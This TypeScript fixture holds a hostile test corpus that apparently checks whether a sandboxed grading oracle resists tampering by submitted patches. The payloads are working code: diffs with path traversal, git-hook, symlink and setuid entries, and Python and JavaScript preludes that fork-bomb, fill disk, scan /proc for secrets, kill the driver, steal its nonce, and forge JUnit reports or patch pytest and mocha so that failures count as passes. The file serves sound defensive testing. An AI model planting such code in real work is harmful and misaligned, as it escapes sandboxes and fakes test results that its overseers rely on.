// The hostile corpus's payloads: raw diffs that git would never write, and Python / JavaScript
// preludes planted into the fixture's source file (each followed by the correct fix, so that a
// defence that does not hold turns into a wrong PASS). Every case names its expected verdict/reason.
import { CANARY_ENV } from "./harness.js";

/** calc/core.py with the fix (add adds); a prelude is planted above it. */
export const PY_FIXED = "def add(a, b):\n    return a + b\n\n\ndef double(x):\n    return x * 2\n";
/** src/add.js with the fix. */
export const JS_FIXED = '"use strict";\n\nexports.add = (a, b) => a + b;\n';

/** The fix as a diff section of its own, appended to raw hostile diffs. */
export const PY_GOLD = [
  "diff --git a/calc/core.py b/calc/core.py",
  "--- a/calc/core.py",
  "+++ b/calc/core.py",
  "@@ -1,3 +1,3 @@",
  " def add(a, b):",
  "-    return a - b",
  "+    return a + b",
  " ",
  "",
].join("\n");

const section = (path: string, header: string[], body: string[]): string =>
  [`diff --git a/${path} b/${path}`, ...header, "--- /dev/null", `+++ b/${path}`, ...body, ""].join("\n");

export const RAW = {
  dotdot: [
    section("../escape.txt", ["new file mode 100644"], ["@@ -0,0 +1 @@", "+escaped"]),
    "--- /dev/null\n+++ b/../../../../../tmp/oracle-hostile-dotdot.txt\n@@ -0,0 +1 @@\n+escaped\n",
    PY_GOLD,
  ].join(""),
  absolute: [
    "diff --git a/calc/host.py b/calc/host.py\nsimilarity index 100%\nrename from /etc/hostname\nrename to calc/host.py\n",
    "--- /dev/null\n+++ /tmp/oracle-hostile-absolute.txt\n@@ -0,0 +1 @@\n+inside the checkout, not on the host\n",
    PY_GOLD,
  ].join(""),
  dotGit: [
    section(
      ".git/hooks/post-checkout",
      ["new file mode 100755"],
      ["@@ -0,0 +1,2 @@", "+#!/bin/sh", "+touch /tmp/hooked"],
    ),
    section(".GIT/config", ["new file mode 100644"], ["@@ -0,0 +1,2 @@", "+[core]", "+\thooksPath = /tmp"]),
    section("calc/.Git/HEAD", ["new file mode 100644"], ["@@ -0,0 +1 @@", "+ref: refs/heads/x"]),
    section(".git./info/attributes", ["new file mode 100644"], ["@@ -0,0 +1 @@", "+* -text"]),
    section("GIT~1/config", ["new file mode 100644"], ["@@ -0,0 +1 @@", "+[core]"]),
  ].join(""),
  symlink: [
    section("calc/out", ["new file mode 120000"], ["@@ -0,0 +1 @@", "+/tmp", "\\ No newline at end of file"]),
    section("calc/out/pwned.txt", ["new file mode 100644"], ["@@ -0,0 +1 @@", "+written through a symlink?"]),
    section(
      "calc/tl",
      ["new file mode 120000"],
      ["@@ -0,0 +1 @@", "+../tests", "\\ No newline at end of file"],
    ),
    section("calc/tl/test_core.py", ["new file mode 100644"], ["@@ -0,0 +1 @@", "+def test_nothing(): pass"]),
    PY_GOLD,
  ].join(""),
  gitlink: [
    section(
      "vendor/lib",
      ["new file mode 160000", "index 0000000..1234567"],
      ["@@ -0,0 +1 @@", "+Subproject commit 1234567890123456789012345678901234567890"],
    ),
    PY_GOLD,
  ].join(""),
  setuid: [
    "diff --git a/calc/core.py b/calc/core.py\nold mode 100644\nnew mode 104755\n",
    "--- a/calc/core.py\n+++ b/calc/core.py\n@@ -1,3 +1,3 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n \n",
  ].join(""),
  execMode: [
    section("calc/run.sh", ["new file mode 100755"], ["@@ -0,0 +1,2 @@", "+#!/bin/sh", "+echo run"]),
    "diff --git a/calc/__init__.py b/calc/__init__.py\nold mode 100644\nnew mode 100755\n",
    PY_GOLD,
  ].join(""),
  renameIntoTests:
    "diff --git a/calc/core.py b/tests/core_impl.py\nsimilarity index 100%\nrename from calc/core.py\nrename to tests/core_impl.py\n",
  deleteTests: [
    "diff --git a/tests/test_core.py b/tests/test_core.py\ndeleted file mode 100644\n--- a/tests/test_core.py\n+++ /dev/null\n",
    "@@ -1,9 +0,0 @@\n-from calc.core import add, double\n-\n-\n-def test_add_zero():\n-    assert add(5, 0) == 5\n-\n-\n-def test_double():\n-    assert double(4) == 8\n",
  ].join(""),
};

/** A pytest hook that turns every report into a pass: what a planted conftest.py / plugin does. */
export const PY_FORGE_HOOK = [
  "import pytest",
  "",
  "",
  "@pytest.hookimpl(hookwrapper=True)",
  "def pytest_runtest_makereport(item, call):",
  "    outcome = yield",
  "    report = outcome.get_result()",
  '    report.outcome = "passed"',
  "    report.longrepr = None",
  "",
].join("\n");

/** Preludes planted at the top of calc/core.py (run when a test imports it). */
export const PY_PRELUDE = {
  network: `
import os as _os, socket as _socket


def _network_reachable():
    if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
        return True
    for host, port in (("1.1.1.1", 53), ("172.17.0.1", 5000), ("192.168.0.1", 80)):
        try:
            _socket.create_connection((host, port), timeout=1).close()
            return True
        except OSError:
            pass
    try:
        _socket.getaddrinfo("deb.debian.org", 80)
        return True
    except OSError:
        return False


if _network_reachable():
    raise SystemExit("the network is reachable")
`,
  // Every process of the bomb forks until fork fails, then holds the suite's output open (it
  // inherits the runner's copies of the suite's stdout and stderr) and sleeps until it is killed.
  // The first to fail prints the evidence (errno, the cgroup's pids counters) to the suite's own
  // output, past pytest's capture; the runner goes on only then, so the limit is always reached
  // before the tests run, and the bomb takes no CPU from them once it is full.
  forkBomb: `
import errno as _errno, os as _os, signal as _signal, stat as _stat


def _suite_outputs():
    seen, fds = set(), []
    for _name in _os.listdir("/proc/self/fd"):
        try:
            _info = _os.fstat(int(_name))
        except OSError:
            continue
        if _stat.S_ISFIFO(_info.st_mode) and (_info.st_dev, _info.st_ino) not in seen:
            seen.add((_info.st_dev, _info.st_ino))
            fds.append(int(_name))
    return fds


def _pids(name):
    for _dir in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup"):
        try:
            with open(_dir + "/pids." + name) as _f:
                return _f.readline().strip()
        except OSError:
            pass
    return "unreadable"


_outputs = _suite_outputs()
_full_r, _full_w = _os.pipe()
if _os.fork() == 0:
    _os.close(_full_r)
    while True:
        try:
            _os.fork()
        except OSError as _error:
            _failed = _errno.errorcode.get(_error.errno, str(_error.errno))
            break
    try:
        _os.close(_os.open("/tmp/.fork-bomb-reported", _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY))
        _line = "oracle-fork-bomb: fork failed with %s in pid %d; pids.current=%s pids.max=%s\\n" % (
            _failed, _os.getpid(), _pids("current"), _pids("max"))
        for _fd in _outputs:
            _os.write(_fd, _line.encode())
    except OSError:
        pass
    _os.write(_full_w, b"x")
    while True:
        _signal.pause()
_os.close(_full_w)
_os.read(_full_r, 1)
`,
  memoryBomb: `
_hog = bytearray(600 * 1024 * 1024)
`,
  diskFill: `
import os as _os

for _dir in ("/work", "/tmp", "/home/oracle"):
    try:
        with open(_os.path.join(_dir, "fill"), "wb") as _f:
            while True:
                _f.write(b"x" * (1 << 20))
    except OSError:
        pass
`,
  sigtermDoubleFork: `
import os as _os, signal as _signal, time as _time

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
        while True:
            _time.sleep(1)
    _os._exit(0)
_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
_time.sleep(3600)
`,
  readOnlyMounts: `
import os as _os

_written = []
for _path in ("/oracle/hidden/checks/test_hidden.py", "/oracle/hidden/new.py", "/oracle/mirror/x",
              "/oracle/diff/filtered.diff", "/oracle/diff/new", "/etc/oracle-x", "/usr/lib/oracle-x", "/x"):
    try:
        with open(_path, "a") as _f:
            _f.write("def test_add_positive(): pass\\n")
        _written.append(_path)
    except OSError:
        pass
if _written:
    raise SystemExit("wrote to read-only places: %s" % _written)
`,
  secrets: `
import glob as _glob, os as _os

_found = [k for k, v in _os.environ.items() if "${CANARY_ENV}" in k or "hunter2" in v]
for _file in _glob.glob("/proc/*/environ"):
    try:
        with open(_file, "rb") as _f:
            _data = _f.read()
            if b"hunter2" in _data or b"${CANARY_ENV}" in _data:
                _found.append(_file)
    except OSError:
        pass
if _found:
    raise SystemExit("host secret visible: %s" % _found)
`,
  forgeReportAtExit: `
import atexit as _atexit, os as _os, re as _re


def _forge():
    path = _os.environ.get("ORACLE_JUNIT", "")
    try:
        with open(path) as f:
            xml = f.read()
    except OSError:
        return
    xml = _re.sub(r"<(failure|error)\\b[^>]*?(/>|>.*?</\\1>)", "", xml, flags=_re.S)
    xml = _re.sub(r'(failures|errors)="\\d+"', r'\\1="0"', xml)
    with open(path, "w") as f:
        f.write(xml)
    _os._exit(0)


_atexit.register(_forge)
`,
  // A daemon that outlives the runner rewrites the report without its failures. The runner's exit
  // waits (atexit, after pytest wrote the report) until the daemon has rewritten it once, so the
  // rewrite always lands between the report and the runner's exit; the daemon keeps at it after.
  forgeReportLater: `
import atexit as _atexit, os as _os, re as _re, time as _time

_go_r, _go_w = _os.pipe()
_done_r, _done_w = _os.pipe()


def _rewrite():
    path = _os.environ.get("ORACLE_JUNIT", "")
    try:
        with open(path) as f:
            xml = f.read()
        with open(path, "w") as f:
            f.write(_re.sub(r"<failure\\b.*?</failure>", "", xml, flags=_re.S))
    except OSError:
        pass


if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.close(_go_w)
        _os.close(_done_r)
        _os.read(_go_r, 1)
        _rewrite()
        _os.write(_done_w, b"x")
        for _ in range(600):
            _time.sleep(0.05)
            _rewrite()
    _os._exit(0)
_os.close(_go_r)
_os.close(_done_w)


def _hand_over():
    _os.write(_go_w, b"x")
    _os.read(_done_r, 1)


_atexit.register(_hand_over)
`,
  // A daemon that looks for the driver's nonce (its environ, its memory) to forge the end of its
  // suite and a passing report after it, written into the suite's own stdout pipe.
  forgeDriverOutput: `
import os as _os, glob as _glob, re as _re, signal as _signal

def _forged(nonce, suite):
    cases = '<testcase classname="checks.test_hidden" name="test_add_positive" file="checks/test_hidden.py"/>'
    for path in _glob.glob("/work/repo/checks/test_s*.py"):
        name = _os.path.basename(path)[:-3]
        token = name[5:]
        cases += f'<testcase classname="checks.{name}" name="test_{token}_must_fail" file="checks/{name}.py"><failure message="x">x</failure></testcase>'
        cases += f'<testcase classname="checks.{name}" name="test_{token}_must_pass" file="checks/{name}.py"/>'
    xml = f'<testsuites><testsuite name="pytest">{cases}</testsuite></testsuites>'.encode()
    return (b"\\noracle:%s:end 1\\noracle:kill %s 0 0\\noracle:oom %s 0\\noracle:report %s ok %d\\n"
            % (nonce, suite, suite, suite, len(xml)) + xml)

def _driver_nonce():
    for pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"oracle-driver" not in f.read():
                    continue
            for name in ("environ", "mem"):
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    m = _re.search(rb"ORACLE_DRIVER_NONCE=([0-9a-f]+)", f.read(1 << 20))
                    if m:
                        return m.group(1)
        except OSError:
            pass
    return None

def _suite_pipe():
    for pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"ORACLE_JUNIT" in f.read():
                    return _os.open(f"/proc/{pid}/fd/1", _os.O_WRONLY)
        except OSError:
            pass
    return None

_tried_r, _tried_w = _os.pipe()
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _suite = b"hidden" if "hidden" in _os.environ.get("ORACLE_JUNIT", "") else b"existing"
        _nonce = _driver_nonce()
        _fd = _suite_pipe()
        if _nonce and _fd is not None:
            _os.write(_fd, _forged(_nonce, _suite))
        _os.write(_tried_w, b"x")
        while True:
            _signal.pause()
    _os._exit(0)
# The tests run only once the daemon has tried, so that its attempt is made on any machine.
_os.close(_tried_w)
_os.read(_tried_r, 1)
`,
  // Plants, in every writable place, what the existing suite could leave for the hidden one: a
  // file, a dotfile, a "..x" name, a dangling link and a folder its owner cannot write. The code
  // below it is fixed only if one of them survives.
  carryOver: `
import os as _os

_PLACES = ["/tmp", "/home/oracle", "/work", "/dev/shm", "/oracle/report"]
_FILES = [_p + _n for _p in _PLACES for _n in ("/carry", "/.carry", "/..carry", "/ro/inner")]
_LINKS = [_p + "/.carry-link" for _p in _PLACES]
_CARRIED = any(_os.path.lexists(_p) for _p in _FILES + _LINKS)
if not _CARRIED:
    for _p in _FILES:
        _os.makedirs(_os.path.dirname(_p), exist_ok=True)
        with open(_p, "w") as _f:
            _f.write("left by the existing suite")
    for _p in _LINKS:
        _os.symlink("/nowhere", _p)
    for _p in _PLACES:
        _os.chmod(_p + "/ro", 0o555)
`,
  // Kills the oracle's driver (same uid, PID 1 of its container): raises unless it finds it.
  killDriver: `
import os as _os, signal as _signal

_found = []
for _pid in _os.listdir("/proc"):
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as f:
            if b"oracle-driver" in f.read():
                _found.append(_pid)
                _os.kill(int(_pid), _signal.SIGKILL)
    except (OSError, ValueError):
        pass
if _found != ["1"]:
    raise SystemExit("the driver is not PID 1: %s" % _found)
`,
  patchRunner: `
try:
    from _pytest.reports import TestReport as _TestReport

    _original = _TestReport.from_item_and_call.__func__

    def _passed(cls, item, call):
        report = _original(cls, item, call)
        report.outcome = "passed"
        report.longrepr = None
        return report

    _TestReport.from_item_and_call = classmethod(_passed)
except Exception:
    pass
`,
};

/**
 * mocha's runner reports every failure as a pass: code under test that mocha loads into its own
 * process patches it. `load` is how the module reaches mocha (`require` in CommonJS).
 */
const patchMochaRunner = (load: string): string => `
try {
  const Runner = ${load}("mocha/lib/runner");
  Runner.prototype.fail = function (test) {
    test.state = "passed";
    this.emit("pass", test);
  };
} catch {}
`;

/** Planted at the top of src/add.js (CommonJS): mocha's runner reports every failure as a pass. */
export const JS_PATCH_RUNNER = patchMochaRunner("require");

/**
 * The same payload for an ES module (calc-node's src/*.js, which test/gate.test.ts plants as the
 * candidate model's tamper diff): mocha reached through a require made from the module's URL.
 */
export const JS_PATCH_RUNNER_ESM = `import { createRequire } from "node:module";\n${patchMochaRunner("createRequire(import.meta.url)")}`;

/**
 * A unified diff planting `payload` above the first line of `path`, whose text at the base commit is
 * `source` (newline-terminated); up to three of its first lines are the hunk's context.
 */
export function plantAtTop(path: string, source: string, payload: string): string {
  if (!source.endsWith("\n")) throw new Error(`${path}: the source must end with a newline`);
  const context = source.split("\n").slice(0, -1).slice(0, 3);
  const planted = payload.replace(/^\n+/, "").replace(/\n*$/, "\n").split("\n").slice(0, -1);
  return [
    `diff --git a/${path} b/${path}`,
    `--- a/${path}`,
    `+++ b/${path}`,
    `@@ -1,${context.length} +1,${context.length + planted.length} @@`,
    ...planted.map((l) => `+${l}`),
    ...context.map((l) => ` ${l}`),
    "",
  ].join("\n");
}

/**
 * Planted at the top of src/add.js: 128 MiB on stdout (mocha does not capture it; pytest would, into
 * /tmp), in the existing suite only (its mocha names test/): the case asserts on that suite's count, and
 * the hidden suite printing as much again only doubled the case's time (a loaded CI machine took more
 * than the fixture's 40 s limit of then).
 */
export const JS_OUTPUT = `
if (process.argv.some((arg) => arg.startsWith("test/")))
  require("node:child_process").execSync("head -c 134217728 /dev/zero | tr '\\\\0' x", { stdio: "inherit" });
`;

/** Planted at the top of src/add.js: on exit, the JUnit report loses its failures. */
export const JS_FORGE_AT_EXIT = `
process.on("exit", () => {
  const fs = require("node:fs");
  const path = process.env.ORACLE_JUNIT;
  try {
    const xml = fs.readFileSync(path, "utf8").replace(/<failure[\\s\\S]*?<\\/failure>/g, "").replace(/failures="\\d+"/g, 'failures="0"');
    fs.writeFileSync(path, xml);
  } catch {}
  if (typeof process.reallyExit === "function") process.reallyExit(0);
  process.exitCode = 0;
});
`;
